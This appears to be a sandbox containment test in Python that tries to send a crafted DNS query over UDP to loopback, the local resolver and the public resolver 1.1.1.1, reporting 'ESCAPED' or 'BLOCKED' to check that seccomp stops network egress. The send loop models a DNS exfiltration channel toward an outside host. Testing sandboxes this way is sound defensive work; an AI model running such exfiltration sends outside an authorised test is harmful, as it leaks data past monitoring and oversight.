"""Exfiltrate over UDP (sendto loopback discard port and a public DNS resolver); contained = socket() killed or refused by seccomp."""
import socket

# A DNS query for r2g-hostile.invalid (a reserved name), as an exfiltration channel would use.
QUERY = bytes.fromhex("1234 0100 0001 0000 0000 0000".replace(" ", "")) + \
    b"\x0br2g-hostile\x07invalid\x00" + b"\x00\x01\x00\x01"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print("ESCAPED: socket(AF_INET, SOCK_DGRAM) was allowed")
for addr in (("127.0.0.1", 9), ("127.0.0.53", 53), ("1.1.1.1", 53)):
    try:
        n = s.sendto(QUERY, addr)
        print(f"ESCAPED: sent {n} bytes to {addr}")
    except OSError as e:
        print(f"BLOCKED: sendto {addr}: {e!r}")
s.close()
